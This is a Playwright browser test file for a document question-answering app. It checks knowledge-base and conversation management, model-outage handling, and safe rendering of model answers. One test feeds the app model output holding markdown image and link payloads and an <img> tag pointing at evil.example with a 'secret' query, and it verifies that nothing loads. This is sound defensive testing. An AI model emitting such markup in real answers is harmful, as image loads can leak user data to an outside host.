"""Bases, conversations and a language model, in a real browser on the real app."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.browser.app import PATIENCE, serving
from tests.browser.conftest import Tab
from tests.servers import ModelServer

pytestmark = pytest.mark.browser
TERMS = ("terms.txt", b"The refund period is thirty days from the day of delivery.")
QUESTION = "How long is the refund period?"


def model(server: ModelServer) -> dict[str, str]:
    return {"LLM__PROVIDER": "openai", "LLM__BASE_URL": server.base_url, "LLM__MODEL": "stand-in", "LLM__TIMEOUT_SECONDS": "20"}


@pytest.mark.slow
def test_bases_and_conversations_are_made_renamed_and_deleted(tab: Tab, url: str) -> None:
    app = tab(url)
    app.open_menu()
    app.page.get_by_label("New knowledge base").fill("知识库 <b>")
    app.page.get_by_role("button", name="Create").click()
    choice = app.page.get_by_role("combobox", name="Knowledge base")
    expect(choice).to_have_value("知识库 <b>", timeout=PATIENCE)
    app.settle()
    app.upload(TERMS)
    app.ask(QUESTION)

    app.page.get_by_text("Conversations · 1").click()
    app.page.locator(".st-key-conversation_list").get_by_role("button").last.click()
    app.page.get_by_role("dialog").get_by_role("button", name="Delete the conversation").click()
    expect(app.page.get_by_text("Conversations · 0")).to_be_visible(timeout=PATIENCE)
    expect(app.answers()).to_have_count(0)

    app.open_menu()
    app.page.get_by_label("New name for").fill("Contracts")
    app.page.get_by_role("button", name="Rename").click()
    expect(choice).to_have_value("Contracts", timeout=PATIENCE)
    expect(app.page.get_by_text("Documents · 1")).to_be_visible(timeout=PATIENCE)
    app.settle()

    app.open_menu()
    app.page.get_by_role("button", name="Delete Contracts").click()
    app.page.get_by_role("button", name="Delete for good").click()
    expect(app.page.get_by_role("heading", name=re.compile("Ask your own documents"))).to_be_visible(timeout=PATIENCE)
    expect(app.page.get_by_text("Documents · 0")).to_be_visible(timeout=PATIENCE)


@pytest.mark.slow
def test_a_models_answer_is_shown_with_its_markdown_and_citations_but_loads_nothing(
    tab: Tab, store: Path, foreign: list[str]
) -> None:
    words = (
        "It is **thirty",
        " days** [1].\n\n",
        "![x](http://evil.example/?q=secret) ",
        "[click](http://evil.example) <img src=http://evil.example>",
    )
    unsupported = {"ANSWER__GROUNDING__REFUSE_BELOW": "0"}  # a picture and a link are in no passage
    with ModelServer(words=words, pause=0.1) as server, serving(store, **model(server), **unsupported) as url:
        app = tab(url)
        app.upload(TERMS)
        answer = app.ask(QUESTION)
        expect(answer.locator("strong").filter(has_text="thirty days")).to_be_visible()
        expect(answer).to_contain_text("![x](http://\u2060evil.example/?q=secret)")  # which the browser takes for no address
        expect(answer).to_contain_text("[click](http://\u2060evil.example)")
        expect(answer.get_by_role("button", name=re.compile("terms.txt"))).to_be_visible()
        assert answer.locator("img").count() == 0
    assert foreign == []


@pytest.mark.slow
def test_a_model_that_is_down_is_named_and_the_documents_are_quoted_until_a_retry(tab: Tab, store: Path) -> None:
    with (
        ModelServer(words=("Thirty days ", "[1]."), failure="overloaded", times=100) as server,
        serving(store, **model(server)) as url,
    ):
        app = tab(url)
        app.upload(TERMS)
        answer = app.ask(QUESTION)
        expect(answer.get_by_test_id("stAlert")).to_contain_text("The language model could not be used")
        expect(answer).to_contain_text("thirty days from the day of delivery")
        server.failure = None
        answer.get_by_role("button", name="Try again").click()
        expect(answer).to_contain_text("Thirty days", timeout=PATIENCE)
        expect(answer.get_by_test_id("stAlert")).to_have_count(0)
